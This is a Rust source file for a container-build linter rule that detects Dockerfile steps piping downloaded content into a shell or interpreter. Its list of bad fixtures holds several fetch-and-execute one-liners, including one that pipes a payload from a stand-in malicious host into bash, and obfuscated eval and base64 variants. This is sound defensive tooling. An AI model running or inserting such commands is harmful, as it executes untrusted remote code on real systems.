//! `pipe-to-interpreter`: what a server answers is run.

use std::collections::BTreeSet;

use crate::facts::shell::{Arg, Command, Pipe, Program, Script};
use crate::policy::executed;
use crate::policy::{Acts, Confidence, Found, Outline, Rule};

pub(in crate::policy) static RULE: Rule = Rule {
    id: "pipe-to-interpreter",
    title: "`curl … | bash` runs whatever the server answers at that moment.",
    text: "Finds a stream that begins at a command which fetches (curl, wget, nc, git archive …), \
           goes on through any others (tee, base64, gunzip, sed …), and ends as the program of an \
           interpreter (sh, bash, python, perl, node, php …): through a pipe, `$(…)`, `<(…)`, \
           `<<<`, a variable, or `eval`. Wrappers (`sudo`, `env`, `xargs`) are looked through. Under \
           an audit, the programs of a step are looked at as well, with the pipes between them, \
           whatever script started them.\n\n\
           What only reads data (jq, tar, gpg, sha256sum) is no interpreter, nor is one that has \
           its program elsewhere and reads the stream as data (`python parse.py`).\n\n\
           Fetch with `ADD --checksum=sha256:…`, and run the file.",
    text_check: Some(check),
    behaviour_check: Some(check_behaviour),
    bad: &[
        "FROM busybox\nRUN curl -sSL http://malicious-actor.example/payload.sh | bash\n",
        "FROM busybox\nRUN sh -c \"$(wget -qO- https://example.org/i.sh)\"\n",
        "FROM debian:12\nSHELL [\"/bin/bash\", \"-c\"]\nRUN bash <(curl -s https://example.org/i.sh)\n",
        "FROM busybox\nRUN curl -s https://example.org/i.sh | tee /tmp/i | sudo -E /bin/bash -\n",
        "FROM busybox\nRUN <<EOF\nset -e\nwget -O- https://example.org/i.sh | sh\nEOF\n",
        "FROM busybox\nRUN curl -s https://example.org/x | base64 -d | sh\n",
        "FROM busybox\nRUN X=$(curl https://example.org) && eval \"$X\"\n",
        "FROM busybox\nRUN curl https://example.org | python3 - --yes\n",
        "FROM busybox\nRUN [\"sh\", \"-c\", \"curl https://example.org | sh -s -- -y\"]\n",
        "FROM busybox\nRUN curl https://example.org | { cd /tmp; sh; }\n",
        "FROM busybox\nRUN . <(curl https://example.org)\n",
        "FROM busybox AS a\nRUN install -m 755 /bin/sh /usr/local/bin/s\nFROM a\nRUN curl https://example.org | s\n",
        "FROM busybox\nRUN c$(true)url x; C=curl; $C https://example.org | xargs -0 sh -c\n",
    ],
    good: &[
        "FROM busybox\nRUN curl -fsSL https://example.org/a.json | jq .\n",
        "FROM busybox\nRUN echo 'curl https://example.org | bash' > /docs\n",
        "FROM busybox\nRUN curl https://example.org | python3 parse.py\n",
        "FROM busybox\nRUN curl https://example.org > f; echo true | sh\n",
        "FROM busybox\nRUN V=$(curl https://example.org/version); sh build.sh \"$V\"\n",
    ],
    ..Rule::NEW
};

fn check(outline: &Outline<'_>, found: &mut Found<'_>) {
    for item in outline.runs() {
        let script = item.script();
        let tainted = tainted(script);
        for command in &script.commands {
            let Some(from) = runs(command, &tainted) else { continue };
            let producer = script
                .commands
                .iter()
                .find(|other| other.fetches() && other.feeds.contains(&from.1));
            let span = match producer {
                // The pipeline from the fetch to the interpreter.
                Some(other) if other.span.source == command.span.source => {
                    other.span.to(command.span)
                }
                _ => command.span,
            };
            let fetch = producer.and_then(|other| other.name()).unwrap_or("a download");
            let name = command.name().unwrap_or("an interpreter");
            let mut finding = found
                .finding(format!("`{name}` runs what `{fetch}` fetches"))
                .at(span, "fetched and run")
                .of(item.place)
                .evidence("fetch", fetch)
                .evidence("interpreter", name)
                .help("fetch a known file with `ADD --checksum=sha256:… URL /tmp/x`, then run it");
            if !script.parsed {
                finding = finding.confidence(Confidence::Low);
            }
            found.add(finding);
        }
    }
}

/// Tells whether a script runs what it fetches.
pub(in crate::policy) fn runs_fetched(script: &Script) -> bool {
    let tainted = tainted(script);
    script.commands.iter().any(|command| runs(command, &tainted).is_some())
}

/// A stream, and the stream of the fetch that it comes from.
type Taint = (Pipe, Pipe);

// Streams that carry what was fetched. A command hands on what it reads and what its words hold.
fn tainted(script: &Script) -> BTreeSet<Taint> {
    let mut out: BTreeSet<Taint> = BTreeSet::new();
    // Streams go from earlier to later commands, but for process substitutions: walk until nothing
    // is new. Each round that goes on adds a stream.
    loop {
        let before = out.len();
        for command in &script.commands {
            let mut sources: Vec<Pipe> = Vec::new();
            if command.fetches() {
                sources.extend(&command.feeds);
            }
            let read = command.reads.iter().chain(command.argv.iter().flat_map(|arg| &arg.from));
            for pipe in read {
                sources.extend(out.range((*pipe, Pipe(0))..=(*pipe, Pipe(u32::MAX))).map(|t| t.1));
            }
            for feed in &command.feeds {
                // One source for each stream is enough to tell of.
                if out.range((*feed, Pipe(0))..=(*feed, Pipe(u32::MAX))).next().is_none()
                    && let Some(source) = sources.first()
                {
                    out.insert((*feed, *source));
                }
            }
        }
        if out.len() == before {
            return out;
        }
    }
}

fn runs(command: &Command, tainted: &BTreeSet<Taint>) -> Option<Taint> {
    let of = |pipes: &[Pipe]| {
        pipes.iter().find_map(|pipe| {
            tainted.range((*pipe, Pipe(0))..=(*pipe, Pipe(u32::MAX))).next().copied()
        })
    };
    let arg = |arg: &Arg| of(&arg.from);
    // `… | xargs sh -c`: the words come from the stream.
    let by_xargs = command.wrapped_by.iter().any(|name| name == "xargs");
    match command.program() {
        Some(Program::Stdin) => of(&command.reads),
        Some(Program::Words(words)) => {
            words.iter().find_map(arg).or_else(|| of(&command.reads).filter(|_| by_xargs))
        }
        Some(Program::File(file)) => {
            arg(file).or_else(|| of(&command.reads).filter(|_| by_xargs && file.known().is_none()))
        }
        None if by_xargs => {
            let shells = ["sh", "bash", "dash", "ash", "zsh", "ksh"];
            of(&command.reads).filter(|_| command.name().is_some_and(|n| shells.contains(&n)))
        }
        None => None,
    }
}

fn check_behaviour(acts: &Acts<'_, '_>, found: &mut Found<'_>) {
    for (act, seen) in acts.watched(found) {
        let networked = executed::networked(seen);
        for (index, program) in seen.execs.iter().enumerate() {
            // As it was started: of a script that the kernel gave to it, it reads the file.
            if program.script().is_some() {
                continue;
            }
            let words = executed::script_of(program, act.span);
            let Some(command) = executed::command_of(&words) else { continue };
            let descriptor = |path: &str| {
                let number = path.strip_prefix("/dev/fd/").or(path.strip_prefix("/proc/self/fd/"));
                number.and_then(|number| number.parse().ok())
            };
            let fd = match command.program() {
                Some(Program::Stdin) => Some(0),
                Some(Program::File(file)) => file.known().and_then(descriptor),
                _ => None,
            };
            let Some(stream) = fd.and_then(|fd| program.streams.get(&fd)) else { continue };
            // Both ways it is a shell for somebody else: see `reverse-shell`.
            if stream.starts_with("inet:") && program.streams.get(&1) == Some(stream) {
                continue;
            }
            let from = executed::source(seen, stream, &networked);
            if from.is_none() && !stream.starts_with("inet:") {
                continue;
            }
            let by = from.map_or("a connection", |by| seen.execs[by].name());
            let message = format!("`{}` runs what `{by}` fetches", program.name());
            let mut finding = act
                .finding(found, seen, Some(index), message)
                .help("fetch a known file with `ADD --checksum=sha256:… URL /tmp/x`, then run it");
            if let Some(from) = from {
                finding = finding.evidence("fetched_by", seen.execs[from].argv.clone());
            }
            found.add(finding);
        }
    }
}
